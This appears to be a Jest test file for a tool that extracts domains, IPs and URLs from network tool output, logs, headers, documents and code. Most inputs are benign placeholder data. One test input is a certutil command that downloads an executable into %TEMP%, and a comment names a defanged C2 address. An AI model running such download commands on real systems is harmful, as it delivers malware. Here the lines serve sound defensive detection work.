import { assertFound, assertNothingFound } from './detect/findHelpers';

describe('Finding indicators in input and output of tools', () => {
  it('reads network tools', () => {
    assertFound([
      [
        'a-site.com.\t\t300\tIN\tMX\t10 mx1.a-site.com.\n;; SERVER: 192.0.2.53#53(192.0.2.53) (UDP)',
        ['domain a-site.com', 'domain mx1.a-site.com', 'ip 192.0.2.53', 'ip 192.0.2.53'],
      ],
      [
        '_sip._tcp.a-site.com. 60 IN SRV 10 5 5060 pbx.a-site.com.',
        ['domain _sip._tcp.a-site.com', 'domain pbx.a-site.com'],
      ],
      [
        '*   Trying 203.0.113.20:443...\n* Connected to a-site.com (203.0.113.20) port 443',
        ['ip 203.0.113.20', 'domain a-site.com', 'ip 203.0.113.20'],
      ],
      [' 3  core1.a-site.net (198.51.100.1)  1.204 ms  1.190 ms', ['domain core1.a-site.net', 'ip 198.51.100.1']],
      ['10:00:00.123456 IP 192.0.2.5.51515 > 198.51.100.7.443: Flags [S]', []],
      ['64 bytes from 203.0.113.20: icmp_seq=1 ttl=56 time=11.2 ms', ['ip 203.0.113.20']],
      [
        'Nmap scan report for gw.a-site.com (192.0.2.1)\nHost is up (0.0021s latency).',
        ['domain gw.a-site.com', 'ip 192.0.2.1'],
      ],
      ['tcp  0  0 192.0.2.5:22  203.0.113.9:51000  ESTABLISHED 812/sshd', ['ip 192.0.2.5', 'ip 203.0.113.9']],
      [
        'Name Server: NS1.A-SITE.COM\nRegistrar Abuse Contact Email: abuse@b-site.net',
        ['domain ns1.a-site.com', 'domain b-site.net'],
      ],
      [
        'haproxy[12]: 203.0.113.9:51000 [10/Dec/2025:06:25:24.123] fe_https~ be_app/app1 0/0/1/12/13 200 512',
        ['ip 203.0.113.9'],
      ],
      ['fail2ban.actions [77]: NOTICE [sshd] Ban 203.0.113.9', ['ip 203.0.113.9']],
      [
        'openvpn[5]: jo/198.51.100.9:1194 MULTI: Learn: 10.8.0.6 -> jo/198.51.100.9:1194',
        ['ip 198.51.100.9', 'ip 10.8.0.6', 'ip 198.51.100.9'],
      ],
    ]);
  });

  it('reads connection strings of services', () => {
    assertFound([
      ['mongodb+srv://app:secret@db.a-site.com/prod?w=1', ['domain db.a-site.com']],
      ['redis://cache.a-site.net:6379/0 and amqp://mq.a-site.net', ['domain cache.a-site.net', 'domain mq.a-site.net']],
      ['git clone git@git.a-site.org:team/app.git', ['domain git.a-site.org']],
      ['rsync -a mirror.a-site.org::pub /srv', ['domain mirror.a-site.org']],
      ['net use Z: \\\\files.a-site.com\\share', ['domain files.a-site.com']],
      ['ftp://ftp.a-site.org/pub/a.iso', ['url ftp://ftp.a-site.org/pub/a.iso']],
      ['sftp://jo@files.a-site.com/x', ['domain files.a-site.com']],
    ]);
  });

  it('reads web headers and policies', () => {
    assertFound([
      [
        "Content-Security-Policy: default-src 'self' *.a-site.com https://cdn.b-site.net",
        ['domain a-site.com', 'url https://cdn.b-site.net'],
      ],
      ['Set-Cookie: sid=abc; Domain=.a-site.com; Path=/; Secure', ['domain a-site.com']],
      [
        'Host: shop.a-site.com\nOrigin: https://shop.a-site.com\nX-Forwarded-For: 203.0.113.9, 10.0.0.4',
        ['domain shop.a-site.com', 'url https://shop.a-site.com', 'ip 203.0.113.9', 'ip 10.0.0.4'],
      ],
      ['Sitemap: https://a-site.com/sitemap.xml', ['url https://a-site.com/sitemap.xml']],
      ['Location: //b-site.net/next', ['domain b-site.net']],
    ]);
  });

  it('reads documents', () => {
    assertFound(
      [
        [
          '\\href{https://a-site.org/x}{the report}, \\url{https://b-site.org}',
          ['url https://a-site.org/x', 'url https://b-site.org'],
        ],
      ],
      'latex',
    );
    assertFound(
      [
        [
          'See `the report <https://a-site.org/x>`_ on b-site[.]net.',
          ['url https://a-site.org/x', 'domain b-site.net'],
        ],
      ],
      'restructuredtext',
    );
    assertFound([['[[https://a-site.org/x][the report]]', ['url https://a-site.org/x']]], 'org');
    assertFound(
      [
        [
          '[1]: https://a-site.org/x "Title"\n<https://b-site.org>',
          ['url https://a-site.org/x', 'url https://b-site.org'],
        ],
      ],
      'markdown',
    );
    assertFound([
      ['EMAIL;TYPE=work:jo@a-site.com\nURL:https://a-site.com/jo', ['domain a-site.com', 'url https://a-site.com/jo']],
    ]);
  });

  it('reads code', () => {
    assertFound(
      [
        [
          'if (dnsDomainIs(host, ".a-site.com")) return "PROXY proxy.a-site.com:3128";',
          ['domain a-site.com', 'domain proxy.a-site.com'],
        ],
      ],
      'javascript',
    );
    assertFound(
      [
        [
          'let url = URL(string: "https://a-site.com/v1")!\nlet h = "api-a.site-b.app"',
          ['url https://a-site.com/v1', 'domain api-a.site-b.app'],
        ],
      ],
      'swift',
    );
    assertFound(
      [['val host = "mq-1.site-b.dev" // was mq-0.site-b.test', ['domain mq-1.site-b.dev', 'domain mq-0.site-b.test']]],
      'kotlin',
    );
    assertFound(
      [['inet_addr("203.0.113.5"); /* c2: 198[.]51[.]100[.]7 */', ['ip 203.0.113.5', 'ip 198.51.100.7']]],
      'c',
    );
    assertFound(
      [
        [
          '"ProxyServer"="192.0.2.5:8080"\n"AutoConfigURL"="http://a-site.com/x.pac"',
          ['ip 192.0.2.5', 'url http://a-site.com/x.pac'],
        ],
      ],
      'reg',
    );
    assertFound(
      [['certutil -urlcache -f http://203.0.113.5/a.exe %TEMP%\\a.exe', ['url http://203.0.113.5/a.exe']]],
      'bat',
    );
    assertNothingFound(['func main() { fmt.Println(os.Args[1], cfg.Host.Name) }'], 'go');
    assertNothingFound(
      ['val x = list.first().name; println(user.email)', 'package org.acme.app\nimport com.acme.net.Api'],
      'kotlin',
    );
    assertNothingFound(['struct A: Codable { var id: Int }; let n = user.name ?? item.info'], 'swift');
  });
});
